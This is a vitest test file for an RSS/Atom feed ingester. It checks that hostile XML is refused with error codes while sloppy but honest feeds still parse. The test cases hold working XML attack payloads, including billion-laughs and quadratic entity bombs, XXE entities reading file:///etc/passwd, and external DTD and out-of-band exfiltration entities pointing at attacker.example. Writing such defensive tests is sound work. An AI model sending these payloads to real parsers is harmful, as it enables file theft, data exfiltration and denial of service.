// Hostile XML through the ingest boundary: every shape only attacks produce is a failure value with a code and words
// for the status page, and no feed at all (nothing of it can be stored); broken-but-honest documents stay feeds.
import { describe, expect, it } from 'vitest';
import { ingestFeed } from '../../src/ingest/index';
import { parseFeed } from '../../src/ingest/parse/index';

const opts = { url: 'https://feeds.example/hostile.xml', fetchedAt: '2026-11-24T12:00:00Z', sourceId: 'hostile' };
const bytes = (text: string) => new TextEncoder().encode(text);

/** An RSS document with `doctype` before the root and `body` inside its one item. */
const rss = (doctype: string, body: string) =>
  `<?xml version="1.0"?>\n${doctype}\n<rss version="2.0"><channel><title>Feed</title><link>https://feeds.example/</link>` +
  `<item><guid>g1</guid><link>https://feeds.example/1</link>${body}</item></channel></rss>`;

const laughs = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('\n');
/** The issue's document: about 70 KB, one 9,000-character entity referenced 20,000 times (180 MB if expanded). */
const quadratic = rss(`<!DOCTYPE rss [<!ENTITY a "${'x'.repeat(9000)}">]>`, `<title>q</title><description>${'&a;'.repeat(20_000)}</description>`);

describe('hostile XML is refused, with a code', () => {
  it.each([
    ['billion laughs', rss(`<!DOCTYPE rss [${laughs}]>`, '<title>&lol9;</title>'), 'entity-expansion', /entities would add more than 65,536 characters/],
    ['quadratic blowup (9,000 characters × 20,000)', quadratic, 'entity-expansion', /\(&a; alone is 9,000\)/],
    ['two DOCTYPEs', rss('<!DOCTYPE rss>\n<!DOCTYPE rss [<!ENTITY t "two">]>', '<title>&t;</title>'), 'repeated-doctype', /a second DOCTYPE at line 3/],
    [
      'a parameter entity fetched from elsewhere',
      rss('<!DOCTYPE rss [<!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;]>', '<title>&exfil;</title>'),
      'parameter-entity',
      /parameter entity %pe; in the DOCTYPE/,
    ],
    [
      'a parameter entity declaring another',
      rss(`<!DOCTYPE rss [<!ENTITY % eval "<!ENTITY exfil 'boom'>"> %eval;]>`, '<title>&exfil;</title>'),
      'parameter-entity',
      /%eval;/,
    ],
    [
      'out-of-band exfiltration (a parameter reference in a value)',
      rss(`<!DOCTYPE rss [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY send "http://attacker.example/?%file;">]>`, '<title>&send;</title>'),
      'parameter-entity',
      /parameter entity reference in the value of &send;/,
    ],
    [
      'an external entity (SYSTEM "file:///etc/passwd")',
      rss('<!DOCTYPE rss [<!ENTITY exfil SYSTEM "file:///etc/passwd">]>', '<title>&exfil;</title>'),
      'external-entity',
      /external entity &exfil; \(SYSTEM "file:\/\/\/etc\/passwd"\)/,
    ],
    [
      'an external entity by public id',
      rss('<!DOCTYPE rss [<!ENTITY exfil PUBLIC "-//A//B//EN" "http://attacker.example/e">]>', '<title>&exfil;</title>'),
      'external-entity',
      /PUBLIC "http:\/\/attacker\.example\/e"/,
    ],
    [
      '5,000 entity declarations',
      rss(`<!DOCTYPE rss [${Array.from({ length: 5000 }, (_, i) => `<!ENTITY e${i} "v${i}">`).join('\n')}]>`, '<title>&e4999;</title>'),
      'too-many-entities',
      /more than 1,000 entity declarations/,
    ],
    [
      'elements nested 10,000 deep',
      rss('', `<title>deep</title><description>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}</description>`),
      'nesting-too-deep',
      /nested more than 1,000 deep/,
    ],
    [
      'an Atom feed with an external entity',
      `<!DOCTYPE feed [<!ENTITY exfil SYSTEM "file:///etc/passwd">]><feed xmlns="http://www.w3.org/2005/Atom"><title>&exfil;</title></feed>`,
      'external-entity',
      /&exfil;/,
    ],
  ])('%s', async (_what, doc, code, reason) => {
    expect(parseFeed(doc)).toMatchObject({ ok: false, code });
    const result = await ingestFeed(bytes(doc), opts);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.reason).toMatch(/^unsafe XML refused: /);
    expect(result.reason).toMatch(reason);
    expect(result).not.toHaveProperty('feed');
  });

  it('refuses the 70 KB quadratic blowup without doing its work (once over 6 s)', async () => {
    expect(quadratic.length).toBeGreaterThan(69_000);
    const started = performance.now();
    const result = await ingestFeed(bytes(quadratic), opts);
    // A backstop only: the refusal above is the real bound; the budget stops it after the 8th reference.
    expect(performance.now() - started).toBeLessThan(2000);
    expect(result).toMatchObject({ ok: false, code: 'entity-expansion', reason: expect.stringContaining('entities would add more than 69,') });
  });
});

describe('broken-but-honest documents stay feeds', () => {
  it.each([
    ['HTML entities in RSS without a DTD', rss('', '<title>caf&eacute;&nbsp;&amp; more &hellip;</title>'), 'café\u00a0& more …'],
    ['an undefined entity, kept as written', rss('', '<title>testing &doesnotexist; entity</title>'), 'testing &doesnotexist; entity'],
    ['a bare ampersand', rss('', '<title>AT&T & friends</title>'), 'AT&T & friends'],
    [
      'a small entity used in every place it fits',
      rss('<!DOCTYPE rss [<!ENTITY co "Example Co.">]>', `<title>&co; news</title><description>${'<p>&co;</p>'.repeat(500)}</description>`),
      'Example Co. news',
    ],
    [
      'the XHTML entity sets by public id',
      rss(
        '<!DOCTYPE rss [<!ENTITY % HTMLsymbol PUBLIC "-//W3C//ENTITIES Symbols for XHTML//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml-symbol.ent"> %HTMLsymbol;]>',
        '<title>&alpha; &rarr; &omega;</title>',
      ),
      'α → ω',
    ],
    ['raw HTML with unclosed tags, closed by its parent', rss('', `<title>t</title><description>${'<p>para<br>'.repeat(200)}</description>`), 't'],
  ])('%s', async (_what, doc, title) => {
    const result = await ingestFeed(bytes(doc), opts);
    if (!result.ok) throw new Error(result.reason);
    expect(result.feed.items).toHaveLength(1);
    expect(result.feed.items[0].title).toBe(title);
  });
});
